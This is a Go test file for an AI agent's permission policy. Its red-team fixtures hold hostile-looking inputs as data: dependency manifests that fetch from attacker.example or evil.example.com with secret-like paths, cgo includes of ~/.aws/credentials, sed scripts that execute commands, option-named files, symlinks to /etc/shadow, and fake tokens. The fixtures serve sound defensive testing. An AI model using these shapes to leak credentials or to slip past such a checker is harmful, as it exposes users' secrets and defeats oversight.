package permit

import (
	"archive/tar"
	"archive/zip"
	"bufio"
	"bytes"
	"compress/gzip"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// corpusRow is one row of testdata/redteam.txt.
type corpusRow struct {
	line   int
	class  string
	want   string   // allow, ask (not allowed) or deny
	floor  bool     // ask!: not allowed even by a policy that allows every tool
	cwd    string   // folder of the workdir the row runs from
	vars   []string // NAME=VALUE the row adds to the agent's environment
	action string   // with the placeholders replaced
	raw    string   // as written
}

// corpusFixture builds the folders the corpus names, with real files and
// real symbolic links, and returns the environment the rows run in.
func corpusFixture(t testing.TB) (env Env, repl *strings.Replacer) {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	wd, home, out := filepath.Join(root, "proj"), filepath.Join(root, "home"), filepath.Join(root, "outside")
	files := map[string]string{
		wd + "/.git/config": "[core]\n", wd + "/.git/HEAD": "ref: refs/heads/main\n", wd + "/.git/hooks/.keep": "",
		wd + "/.git/modules/lib/hooks/.keep": "", wd + "/.git/refs/heads/main": "3ebcf04b5c3bd6cfd0e4d5b1a2f3e4d5c6b7a8f9\n",
		wd + "/.git/packed-refs": "# pack-refs with: peeled fully-peeled sorted\n3ebcf04b5c3bd6cfd0e4d5b1a2f3e4d5c6b7a8f9 refs/heads/release\n", wd + "/src/main.go": "package main\n", wd + "/src/util.go": "package main\n",
		wd + "/README.md": "# proj\n", wd + "/go.mod": "module proj\n", wd + "/Makefile": "test:\n\tgo test ./...\n",
		wd + "/package.json": `{"name":"proj"}`, wd + "/docs/guide.md": "guide\n", wd + "/sub/notes.txt": "notes\n",
		wd + "/.env": "API_KEY=secret\n", wd + "/.env.example": "API_KEY=\n", wd + "/envdir/.env": "TOKEN=secret\n",
		wd + "/build/.keep": "",
		wd + "/bare/HEAD":   "ref: refs/heads/main\n", wd + "/bare/config": "[core]\n\tfsmonitor = id\n",
		wd + "/bare/objects/.keep": "", wd + "/bare/refs/.keep": "", wd + "/dotvscode/tasks.json": "{}\n",
		wd + "/kit/.vscode/tasks.json": "{}\n", wd + "/node_modules/.bin/tsc": "", wd + "/node_modules/.bin/eslint": "",
		wd + "/node_modules/.bin/prettier": "", wd + "/node_modules/.bin/jest": "", wd + "/node_modules/.bin/vitest": "", wd + "/a/b/c/d/x": "", wd + "/tok/README": "",
		wd + "/tok/.git/HEAD":   "ref: refs/heads/main\n",
		wd + "/tok/.git/config": "[remote \"origin\"]\n\turl = https://x-access-token:ghp_16C7e42F292c6912E7710c838347Ae178B4a@github.com/o/r.git\n",
		wd + "/.mcp.json":       `{"mcpServers":{"gh":{"command":"npx","env":{"GITHUB_PERSONAL_ACCESS_TOKEN":"ghp_abcdefghijklmnopqrstuvwxyz0123456789"}}}}`,
		wd + "/.yarnrc.yml":     "npmAuthToken: \"abcd1234efgh5678ijkl\"\n", wd + "/pip.conf": "[global]\nindex-url = https://me:hunter2pass@pypi.example.com/simple\n",
		wd + "/terraform.tfvars": "db_password = \"hunter2hunter2\"\n", wd + "/gradle.properties": "signing.password=s3cr3tpassw0rd\n",
		wd + "/config/app.yaml": "db:\n  password: ${DB_PASSWORD}\n  token: <your token here>\n", wd + "/src/theme/tokens.json": `{"color":{"primary":"#ff0000"}}`,
		wd + "/conf/deploy_key":            "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\n",
		wd + "/conf/server-cert-notes.txt": "the staging key, do not commit:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAvRq\n-----END RSA PRIVATE KEY-----\n",
		wd + "/conf/npmrc.bak":             "//registry.npmjs.org/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123\n",
		wd + "/conf/netrc.old":             "machine api.example.com login me password hunter2hunter2\n",
		wd + "/.npmrc.orig":                "registry=https://registry.npmjs.org/\n",
		wd + "/conf/docker-config.json":    `{"auths":{"ghcr.io":{"auth":"bWU6Z2hwX2FiY2RlZmdoaWprbG1ub3A="}}}`,
		wd + "/conf/settings.json":         `{"editor.tabSize":2}`, wd + "/conf/README.md": "# conf\n",
		wd + "/.dev.vars": "API_TOKEN=cf-secret-value\n", wd + "/.dev.vars.production": "API_TOKEN=cf-prod-value\n",
		wd + "/.dev.vars.example":    "API_TOKEN=\n",
		wd + "/leak/notes.txt":       "deploy notes\nAPI_TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a\n",
		wd + "/leak/pat.md":          "token: github_pat_11ABCDEFG0abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGH\n",
		wd + "/leak/slack.txt":       "SLACK=xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx\n",
		wd + "/leak/npm.txt":         "//registry.npmjs.org/ npm_abcdefghijklmnopqrstuvwxyz0123456789\n",
		wd + "/leak/gitlab.txt":      "glpat-abcdefghij0123456789\n",
		wd + "/leak/openai.txt":      "OPENAI_API_KEY sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD\n",
		wd + "/leak/anthropic.txt":   "key sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789ABCD\n",
		wd + "/leak/google.txt":      "maps AIzaSyA1234567890abcdefghijklmnopqrstuv\n",
		wd + "/leak/pypi.txt":        "pypi-AgEIcHlwaS5vcmcCJGFiY2RlZmdoLWlqa2wtbW5vcC1xcnN0LXV2d3h5ejAxMjM0\n",
		wd + "/leak/sendgrid.txt":    "SG.abcdefghijklmnopqrstuv.abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG\n",
		wd + "/leak/vault.txt":       "VAULT_TOKEN=hvs.CAESIabcdefghijklmnopqrstuvwxyz0123\n",
		wd + "/leak/jwt.txt":         "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U\n",
		wd + "/leak/db.txt":          "DATABASE_URL=postgres://app:hunter2hunter2@db.internal:5432/app\n",
		wd + "/leak/netrc-notes.txt": "machine api.example.com\n  login me\n  password hunter2hunter2\n",
		wd + "/leak/aws.txt":         "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n",
		wd + "/leak/dockercfg.txt":   `{"auths":{"ghcr.io":{"auth":"bWU6Z2hwX2FiY2RlZmdoaWprbG1ub3A="}}}`,
		// Red team 7's shapes.
		wd + "/leak/stripe.txt":       "STRIPE=sk_live_51HabcdefghijklmnopqrstuvWXYZ\n",
		wd + "/leak/awssecret.txt":    "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
		wd + "/leak/hf.txt":           "HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyzABCDEFGH\n",
		wd + "/leak/do.txt":           "dop_v1_" + strings.Repeat("ab12", 16) + "\n",
		wd + "/leak/age.txt":          "AGE-SECRET-KEY-1" + strings.Repeat("QZ", 30) + "\n",
		wd + "/leak/azure.txt":        "DefaultEndpointsProtocol=https;AccountName=x;AccountKey=" + strings.Repeat("Ab1+", 22) + "==\n",
		wd + "/leak/redis.txt":        "REDIS_URL=redis://:s3cr3tpassword@cache:6379\n",
		wd + "/leak/dbpass.txt":       "DB_PASSWORD=Tr0ub4dor&3horse\n",
		wd + "/leak/template.env.txt": "DB_PASSWORD=${DB_PASSWORD}\npassword: <your password>\n",
		wd + "/pad/late-key.txt":      strings.Repeat("padding line\n", 3<<20/13) + "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
		wd + "/pad/huge.log":          strings.Repeat("a log line of an ordinary build\n", 17<<20/32),
		wd + "/pad/prose.md": "GitHub tokens start with ghp_ and npm's with npm_; use process.env.npm_package_version.\n" +
			"Install sk-learn, run the task-runner-configuration-helper; see https://github.com/o/r and\n" +
			"postgres://user:password@localhost/db or postgres://${DB_USER}:${DB_PASS}@db/app. eyJ is base64 for {\".\n",
		wd + "/hist/.git/HEAD": "ref: refs/heads/main\n", wd + "/hist/.git/config": "[core]\n", wd + "/hist/src/app.go": "package app\n",
		// Red team 8b: env files by other names, key shapes, archives and patches.
		wd + "/t/docker.env": "API_KEY=sk-test-123\n", wd + "/t/env.production": "API_KEY=sk-test-123\n",
		wd + "/t/.envs/.production/.django": "API_KEY=sk-test-123\n", wd + "/t/.flaskenv": "API_KEY=sk-test-123\n",
		wd + "/t/notes.txt": "API_KEY=sk-test-123\n", wd + "/t/settings.py": "SECRET_KEY = 'django-insecure-abcdefghijklmnop'\n",
		wd + "/t/kubeconfig.yaml": "users:\n- user:\n    client-key-data: " + strings.Repeat("LS0tLS1CRUdJTi", 4) + "\n",
		wd + "/t/linear.md":       "lin_api_" + strings.Repeat("aB3d", 10) + "\n",
		wd + "/t/groq.txt":        "GROQ=gsk_" + strings.Repeat("aB3d", 12) + "\n",
		wd + "/t/telegram.txt":    "bot 123456789:AA" + strings.Repeat("x1Y2z", 6) + "abc\n",
		wd + "/t/dockerhub.txt":   "login dckr_pat_" + strings.Repeat("Ab1", 10) + "\n",
		wd + "/rs/Cargo.toml":     "[package]\nname = \"x\"\n[dependencies]\nleft = { git = \"http://127.0.0.1:8999/sk-test-123/x.git\" }\n",
		wd + "/rsok/Cargo.toml":   "[package]\nname = \"x\"\n[dependencies]\nserde = \"1\"\nleft = { git = \"https://github.com/o/left\" }\n",
		// Red team 22a, finding 6: what cargo holds already is built without asking.
		wd + "/rsok/Cargo.lock":  "version = 3\n[[package]]\nname = \"x\"\nversion = \"0.1.0\"\n[[package]]\nname = \"serde\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n[[package]]\nname = \"left\"\nversion = \"0.1.0\"\nsource = \"git+https://github.com/o/left#abc\"\n",
		wd + "/rsok2/Cargo.lock": "version = 3\n[[package]]\nname = \"x\"\nversion = \"0.1.0\"\n[[package]]\nname = \"serde\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n",
		home + "/.cargo/registry/cache/index.crates.io-6f17d22bba15001f/serde-1.0.0.crate": "x", home + "/.cargo/git/checkouts/left-0123456789abcdef/abc/Cargo.toml": "",
		wd + "/rsnew/Cargo.toml": "[package]\nname = \"x\"\n[dependencies]\nserde = \"1\"\nevilcrate = \"0.1\"\n", wd + "/rsnew/Cargo.lock": "version = 3\n[[package]]\nname = \"serde\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n",
		wd + "/rsnolock/Cargo.toml":   "[package]\nname = \"x\"\n[dependencies]\nevilcrate = \"0.1\"\n",
		wd + "/rsuncached/Cargo.toml": "[package]\nname = \"x\"\n[dependencies]\nevilcrate = \"0.1\"\n", wd + "/rsuncached/Cargo.lock": "version = 3\n[[package]]\nname = \"evilcrate\"\nversion = \"0.1.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n",
		wd + "/rslocal/Cargo.toml": "[package]\nname = \"x\"\n[dependencies]\nmine = { path = \"mine\" }\n",
		wd + "/rsout/Cargo.toml":   "[dependencies]\nevil = { path = \"../../outside\" }\n",
		wd + "/gm/go.mod":          "module gm\n\nrequire attacker.example/sk-test-123456 v1.0.0\n",
		wd + "/gmdoc/go.mod":       "module gmdoc\n\ngo 1.22\n\nrequire attacker.example/gh/p4/bc v1.0.0\n", wd + "/gmdoc/main.go": "package main\n\nfunc main() {}\n",
		wd + "/gmok/go.mod":  "module gmok\n\nrequire (\n\tgithub.com/pkg/errors v0.9.1\n\tgolang.org/x/sys v0.1.0 // indirect\n)\n",
		wd + "/gmout/go.mod": "module gmout\n\nreplace example.com/x => ../../outside\n",
		// Red team 10b: manifests only a real parser reads right.
		wd + "/rsml/Cargo.toml":  "[package]\nname = \"x\"\n[dependencies]\nleft = { git = '''http://127.0.0.1:8999/sk-test-123/x.git''' }\n",
		wd + "/rsmb/Cargo.toml":  "[package]\nname = \"x\"\n[dependencies]\nleft = { git = \"\"\"\nhttp://127.0.0.1:8999/sk-test-123/x.git\"\"\" }\n",
		wd + "/rsbs/Cargo.toml":  "[package]\nname = \"x\"\nbuild = \"../../outside.rs\"\n",
		wd + "/rsbin/Cargo.toml": "[package]\nname = \"x\"\n[[bin]]\nname = \"b\"\npath = '''../../outside/main.rs'''\n",
		wd + "/rsws/Cargo.toml":  "[package]\nname = \"x\"\nworkspace = \"../..\"\n",
		wd + "/rsbad/Cargo.toml": "[package\nname = \"x\"\n",
		wd + "/rsok2/Cargo.toml": "[package]\nname = \"x\"\nbuild = \"build.rs\"\n[[bin]]\nname = \"b\"\npath = \"src/main.rs\"\n[dependencies]\nserde = { version = \"1\", features = [\"derive\"] }\n",
		wd + "/gmq/go.mod":       "module gmq\n\nrequire \"attacker.example/sk-test-123456\" v1.0.0\n",
		wd + "/gmb/go.mod":       "module gmb\n\nrequire `attacker.example/sk-test-123456` v1.0.0\n",
		wd + "/gmr/go.mod":       "module gmr\n\nrequire example.com/x v1.0.0\n\nreplace example.com/x => attacker.example/sk-repl-123456 v1.0.0\n",
		wd + "/gmrb/go.mod":      "module gmrb\n\nrequire example.com/x v1.0.0\n\nreplace (\n\texample.com/x => attacker.example/sk-repl-123456 v1.0.0\n)\n",
		wd + "/gmt/go.mod":       "module gmt\n\ngo 1.24\n\ntool attacker.example/sk-tool-123456/cmd\n",
		wd + "/gmok2/go.mod":     "module gmok2\n\ngo 1.22\n\nrequire (\n\t\"github.com/pkg/errors\" v0.9.1\n)\n\nreplace github.com/pkg/errors => ./third_party/errors\n",
		wd + "/t/client.ts":      "const apiKey = process.env.API_KEY;\nexport const API_KEY = 'your-api-key-here';\n",
		wd + "/kit.tar":          tarOf(t, ".vscode/tasks.json"), wd + "/kit.tgz": gzipOf(t, tarOf(t, "src/new.go")),
		wd + "/safe.tar": tarOf(t, "src/new.go", "docs/new.md"), wd + "/kit.zip": zipOf(t, ".claude/settings.json"),
		wd + "/safe.zip":                         zipOf(t, "src/new.go"),
		wd + "/p.diff":                           "diff --git a/.vscode/tasks.json b/.vscode/tasks.json\nnew file mode 100644\n--- /dev/null\n+++ b/.vscode/tasks.json\n@@ -0,0 +1 @@\n+{}\n",
		wd + "/fix.diff":                         "--- a/src/main.go\n+++ b/src/main.go\n@@ -1 +1 @@\n-package main\n+package main // fixed\n",
		home + "/.local/share/fish/fish_history": "- cmd: export GITHUB_TOKEN=x\n",
		wd + "/.git/refs/remotes/origin/evil":    "3ebcf04b5c3bd6cfd0e4d5b1a2f3e4d5c6b7a8f9\n",
		wd + "/.git/refs/heads/linked":           "ref: refs/remotes/origin/evil\n",
		// Red team 11b: ignore files that whitelist .env for rg, a cgo
		// preamble that includes a secret file, TypeScript projects.
		wd + "/rgw/.ignore": "!.env\n", wd + "/rgw/.env": "API_KEY=sk-test-123\n", wd + "/rgw/src/a.txt": "x\n",
		wd + "/rgr/.rgignore": "!.env\n", wd + "/rgr/.env": "API_KEY=sk-test-123\n",
		wd + "/rgg/.gitignore": "*.log\n!.env\n", wd + "/rgg/.env": "API_KEY=sk-test-123\n",
		wd + "/tsx/tsconfig.json": `{"extends": "./base.json", "files": ["x.ts"]}`, wd + "/tsx/base.json": `{"compilerOptions": {"outDir": "../.claude"}}`,
		wd + "/tsok/tsconfig.json": `{"extends": "./tsconfig.base.json", "compilerOptions": {"outDir": "dist"}}`, wd + "/tsok/tsconfig.base.json": "{}",
		wd + "/tsok/x.json":      `{"compilerOptions": {"outDir": "../.claude"}}`,
		wd + "/rgd/deep/.ignore": "!.env\n", wd + "/rgd/deep/.env": "API_KEY=sk-test-123\n",
		// Red team 12b: sed scripts, rg globs, cgo packages (a module of their own, out of ./...).
		wd + "/s.sed": "1e ./evil.sh sed-f-script\n", wd + "/w.sed": "s/x/y/w .git/config\n", wd + "/r.sed": "1r .env\n",
		wd + "/rg12/.env": "API_KEY=sk-test-123\n", wd + "/rg12/.gitignore": ".env\n", wd + "/rg12/src/a.go": "package a // the API\n",
		wd + "/rg12/x.ignore": "!.env\n", wd + "/ok.sed": "s/foo/bar/g\n", wd + "/br.sed": "s/.*[/].*/touch x/e\n", wd + "/brw.sed": "/[/]/w .git/config\n", wd + "/brok.sed": "s/[/]/-/g\n", wd + "/kit/sub/x.py": "x = 1\n",
		wd + "/cg/go.mod": "module cg\n", wd + "/cg/env/c.go": cgoFile(`#include ".env"`), wd + "/cg/env/.env": "API_KEY=sk-test-123\n",
		wd + "/cg/inc/c.go":  cgoFile("#cgo CFLAGS: -I${SRCDIR}/../../../home/.aws\n#include \"credentials\""),
		wd + "/cg/abs/c.go":  cgoFile(`#include "` + home + `/.aws/credentials"`),
		wd + "/cg/up/c.go":   cgoFile(`#include "../../../home/.aws/credentials"`),
		wd + "/cg/isys/c.go": cgoFile("#cgo CFLAGS: -isystem ../../../home/.aws\n#include <credentials>"),
		wd + "/cg/iq/c.go":   cgoFile("#cgo CPPFLAGS: -iquote ../../../home/.aws\n#include \"credentials\""),
		wd + "/cg/incl/c.go": cgoFile("#cgo CFLAGS: -include " + home + "/.aws/credentials"),
		wd + "/cg/imac/c.go": cgoFile("#cgo linux CXXFLAGS: -imacros " + home + "/.aws/credentials"),
		wd + "/cg/idir/c.go": cgoFile("#cgo CFLAGS: -idirafter ../../../home/.aws"),
		wd + "/cg/resp/c.go": cgoFile("#cgo LDFLAGS: -Wl,@../../.env"),
		wd + "/cg/mac/c.go":  cgoFile("#define F \"" + home + "/.aws/credentials\"\n#include F"),
		wd + "/cg/cmt/c.go":  "package cmt\n\n// #/**/include \"../../../home/.aws/credentials\"\nimport \"C\"\n",
		wd + "/cg/dig/c.go":  cgoFile(`%:include ".env"`), wd + "/cg/dig/.env": "API_KEY=sk-test-123\n",
		wd + "/cg/hdr/c.go": cgoFile(`#include "inc/a.h"`), wd + "/cg/hdr/inc/a.h": `#include "` + home + `/.aws/credentials"` + "\n",
		wd + "/cg/csrc/c.go": cgoFile(""), wd + "/cg/csrc/x.c": `#include "` + home + `/.aws/credentials"` + "\n",
		wd + "/cg/dep/main.go": "package main\n\nimport _ \"cg/lib\"\n\nfunc main() {}\n", wd + "/cg/lib/l.go": cgoFile(`#include "k.h"`),
		wd + "/cg/ok/c.go": cgoFile("#cgo LDFLAGS: -lm\n#cgo CFLAGS: -O2 -Wall -DNDEBUG\n#include <stdio.h>\n#include <stdlib.h>\n#include \"ok.h\""),
		wd + "/cg/ok/ok.h": "#include <string.h>\nint add(int a, int b);\n", wd + "/cg/ok/add.c": "#include \"ok.h\"\nint add(int a, int b) { return a + b; }\n",
		wd + "/cg/plain/p.go": "package plain\n\nimport \"fmt\"\n\nvar _ = fmt.Sprint\n",
		// Red team 13b: a virtualenv by its pyvenv.cfg.
		wd + "/pyenv/pyvenv.cfg": "home = /usr/bin\n", wd + "/pyenv/lib/python3.12/site-packages/pkg/__init__.py": "",
		wd + "/jk/package.json": `{"name":"jk","jest":{"globalSetup":"./x.js"}}`, wd + "/jk/node_modules/.bin/jest": "",
		wd + "/jb/package.json": `{"name":"jb","babel":{"plugins":["./p.js"]}}`, wd + "/jb/node_modules/.bin/jest": "",
		wd + "/hp/.git/HEAD": "ref: refs/heads/main\n", wd + "/hp/tools/hooks/pre-commit": "true\n", wd + "/hp/sshcfg": "",
		wd + "/hp/.git/config": "[core]\n\thooksPath = tools/hooks\n\tfsmonitor = \"tools/fsm.pl\"\n\tsshCommand = ssh -F sshcfg\n" +
			"[diff \"py\"]\n\ttextconv = tools/conv.sh\n[alias]\n\tlint = !sh scripts/lint.sh\n[filter \"x\"]\n\tclean = ./clean.sh %f\n[include]\n\tpath = ../extra.gitconfig\n",
		wd + "/c13/.git/HEAD": "ref: refs/heads/main\n", wd + "/c13/.git/config": "[core]\n", wd + "/c13/README.md": "# c13\nTODO: docs\n",
		wd + "/c13/d/notes.txt": "deploy notes\nAPI_TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a\n", wd + "/c13/docs/a.md": "a\n",
		wd + "/c13/settings.py":     "DEBUG = True\nAPI_KEY = \"ghp_16C7e42F292c6912E7710c838347Ae178B4a\"\n",
		wd + "/c13/conf/server.txt": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----\n",
		wd + "/c13/conf/hosts.txt":  "machine api.example.com\n  login me\n  password hunter2hunter2\n",
		wd + "/c18/deploy.yaml":     "apiVersion: v1\nkind: Secret\nmetadata:\n  name: deploy\ntype: Opaque\ndata:\n  ssh-privatekey: LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0KYjNCbGJuTnphQzFyWlhrdGRqRUFBQUFBQkc1dmJtVQotLS0tLUVORCBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0K\n",
		wd + "/c18/deploy.json":     `{"apiVersion": "v1", "kind": "Secret", "data": {"token": "Z2hwXzE2QzdlNDJGMjkyYzY5MTJFNzcxMGM4MzgzNDdBZTE3OEI0YQ=="}}`,
		wd + "/c18/notes16.txt":     utf16le("token: ghp_16C7e42F292c6912E7710c838347Ae178B4a\n"), wd + "/c18/bom16.txt": "\xff\xfe" + utf16le("API_TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a\n"),
		wd + "/c18/cm.yaml": "apiVersion: v1\nkind: ConfigMap\ndata:\n  greeting: aGVsbG8gd29ybGQgaGVsbG8=\n", wd + "/c18/plain16.txt": utf16le("hello world, nothing here\n"),
		wd + "/c19/README.md": "# c19 PRIVATE notes\n",
		// Red team 19a, finding 5: files to empty in bulk, one alone, one empty.
		wd + "/e20/a.txt": "a\n", wd + "/e20/b.txt": "b\n", wd + "/e20/one/only.txt": "only\n", wd + "/e20/none/empty.txt": "",
		// Red team 21a, finding 4: files named like options; 12: corepack.
		wd + "/g21/-ee": "x\n", wd + "/g21/--compress-program=bash": "", wd + "/g21/-t.git": "", wd + "/g21/-r": "", wd + "/g21/a.txt": "echo hi\n",
		wd + "/cp21/package.json": `{"name":"x","packageManager":"yarn@https://evil.example.com/yarn.tgz","scripts":{"test":"jest"}}`,
		// Red team 20a, finding 7: a bare repository the agent made inside.
		wd + "/r20/bare/HEAD": "ref: refs/heads/main\n", wd + "/r20/bare/objects/.keep": "", wd + "/r20/bare/refs/.keep": "",
		out + "/k19/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
		home + "/.ssh/id_rsa":   "KEY\n", home + "/.bash_history": "export TOKEN=x\n", home + "/.aws/credentials": "[default]\n",
		out + "/file.txt": "outside\n", root + "/outside-secret": "x\n",
	}
	more, moreLinks := round14bFiles(wd, home, out)
	for p, body := range more {
		files[p] = body
	}
	for p, body := range round16bFiles(wd, home, out) {
		files[p] = body
	}
	for p, body := range round14bSecretFiles(wd, home, out) {
		files[p] = body
	}
	for p, body := range files {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	links := map[string]string{wd + "/link": "/etc/shadow", wd + "/outlink": out, wd + "/inlink": "src",
		wd + "/keylink": home + "/.ssh/id_rsa", wd + "/c19/lnk": out + "/k19", wd + "/c19/loop": "..", wd + "/cfglink": ".git/config",
		wd + "/a/b/c/d/m": "../../../../src", wd + "/cg/lib/k.h": home + "/.aws/credentials", wd + "/homelink": home, wd + "/plink": "/etc/passwd"}
	for l, target := range moreLinks {
		links[l] = target
	}
	for l, target := range links {
		if err := os.MkdirAll(filepath.Dir(l), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, l); err != nil {
			t.Fatal(err)
		}
	}
	round14bLinks(t, wd, out)
	hist := corpusHistory{OSFS{}, map[string][]string{
		"messages:" + wd + "/msg/.git": {"a commit message or note"}, "messages:" + wd + "/tagmsg/.git": {"a tag message"},
		"secrets:" + wd + "/stsh/.git": {"config.go"},
		wd + "/.git":                   {"src/main.go", "README.md", "go.mod", ".env.example"}, wd + "/hist/.git": {"src/app.go", ".env.production"},
		"pending:" + wd: {"src/new.go"}, "pending:" + wd + "/hist": {"src/app.go", ".env"},
		wd + "/c13/.git": {"README.md", "settings.py", "d/notes.txt"}, "secrets:" + wd + "/c13/.git": {"settings.py"},
		"pending:" + wd + "/c13": {"README.md", "settings.py", "d/notes.txt", "docs/a.md", "conf/server.txt"},
		"staged:" + wd + "/c13":  {"conf/server.txt"}}}
	env = Env{Workdir: wd, Home: home, FS: hist, Protected: []string{home + "/.config/teamlead/team.yaml", wd + "/ops/myteam.yaml"},
		Environ: []string{"HOME=" + home, "PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8", "GOPATH=" + home + "/go", "GOENV=off",
			"GOPROXY=https://proxy.golang.org,direct", "TERM=xterm-256color"}}
	return env, strings.NewReplacer("%WD%", wd, "%HOME%", home, "%OUT%", out, "⏎", "\n")
}

// utf16le is s (ASCII) written as UTF-16, little endian.
func utf16le(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteByte(s[i])
		b.WriteByte(0)
	}
	return b.String()
}

// cgoFile is a Go file of a cgo package with the preamble given.
func cgoFile(preamble string) string {
	return "package p\n\n/*\n" + preamble + "\n*/\nimport \"C\"\n\nfunc F() {}\n"
}

// readCorpus reads the rows of a corpus file.
func readCorpus(t testing.TB, file string, repl *strings.Replacer) []corpusRow {
	t.Helper()
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var rows []corpusRow
	class := ""
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<16), 1<<20)
	for n := 1; sc.Scan(); n++ {
		line := sc.Text()
		switch {
		case strings.TrimSpace(line) == "" || strings.HasPrefix(line, "#"):
			continue
		case strings.HasPrefix(line, "["):
			class = strings.Trim(line, "[]")
			continue
		}
		head, action, ok := strings.Cut(line, " ")
		head, vars, _ := strings.Cut(head, ";")
		want, cwd, _ := strings.Cut(head, "@")
		floor := strings.HasSuffix(want, "!")
		want = strings.TrimSuffix(want, "!")
		if !ok || (want != "allow" && want != "ask" && want != "deny") || class == "" {
			t.Fatalf("%s:%d: write `allow|ask|deny[@dir] ACTION` under a [class] line, not %q", file, n, line)
		}
		rows = append(rows, corpusRow{line: n, class: class, want: want, floor: floor && want == "ask", cwd: cwd, action: repl.Replace(action), raw: action, vars: splitVars(repl.Replace(vars))})
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return rows
}

// splitVars splits a row's ;NAME=VALUE;NAME=VALUE.
func splitVars(s string) []string {
	if s == "" {
		return nil
	}
	return strings.Split(s, ";")
}

// rowEnv is the environment a row runs in: its folder, its variables.
func rowEnv(env Env, r corpusRow) Env {
	if r.cwd != "" {
		env.Cwd = filepath.Join(env.Workdir, r.cwd)
	}
	if len(r.vars) > 0 {
		env.Environ = append(append([]string{}, env.Environ...), r.vars...)
	}
	return env
}

// corpusOutcome checks one row and reports whether it got its decision.
func corpusOutcome(p *Policy, env Env, r corpusRow) (Decision, bool) {
	env = rowEnv(env, r)
	d := p.Check(r.action, "dev", env)
	switch r.want {
	case "allow":
		return d, d.Decide == Allow
	case "deny":
		return d, d.Decide == Deny
	}
	return d, d.Decide != Allow
}

// TestRedTeamCorpus: every row of testdata/redteam.txt gets the decision
// it is written with under the built-in policy.
func TestRedTeamCorpus(t *testing.T) {
	env, repl := corpusFixture(t)
	rows := readCorpus(t, "testdata/redteam.txt", repl)
	if len(rows) < 400 {
		t.Fatalf("the corpus has %d rows; it must keep at least 400", len(rows))
	}
	p := builtin(t)
	all := mustParse(t, permissive)
	perClass := map[string][2]int{}
	for _, r := range rows {
		d, ok := corpusOutcome(p, env, r)
		if r.floor && ok {
			d, ok = corpusOutcome(all, env, r)
		}
		c := perClass[r.class]
		c[1]++
		if ok {
			c[0]++
		} else {
			t.Errorf("redteam.txt:%d [%s] %s: want %s, got %s by %s: %s", r.line, r.class, r.raw, r.want, d.Decide, d.Rule, d.Why)
		}
		perClass[r.class] = c
	}
	for class, c := range perClass {
		t.Logf("%3d/%3d  %s", c[0], c[1], class)
	}
}

// corpusHistory is the fixture's file system with made-up repository
// histories: the working directory's holds no credential, hist/'s held
// .env.production; git status lists src/new.go, and .env in hist/.
type corpusHistory struct {
	OSFS
	m map[string][]string
}

func (h corpusHistory) HistoryNames(gitDir string) ([]string, error) {
	if n, ok := h.m[gitDir]; ok {
		return n, nil
	}
	return nil, os.ErrNotExist
}

func (h corpusHistory) Pending(dir string, tracked bool, scope []string) ([]string, error) {
	if n, ok := h.m["pending:"+dir]; ok {
		return n, nil
	}
	return nil, os.ErrNotExist
}

// HistorySecrets: the paths whose committed content held a key or token
// (none unless the fixture says).
func (h corpusHistory) HistorySecrets(gitDir string) ([]string, error) {
	return h.m["secrets:"+gitDir], nil
}

// HistoryMessages: which message holds a key or token (none unless the fixture says).
func (h corpusHistory) HistoryMessages(gitDir string) (string, error) {
	if m := h.m["messages:"+gitDir]; len(m) > 0 {
		return m[0], nil
	}
	return "", nil
}

// StagedSecrets: the staged paths holding one (none unless the fixture says).
func (h corpusHistory) StagedSecrets(gitDir, workTree string) ([]string, error) {
	return h.m["staged:"+workTree], nil
}

// tarOf is a tar archive holding the named files.
func tarOf(t testing.TB, names ...string) string {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, n := range names {
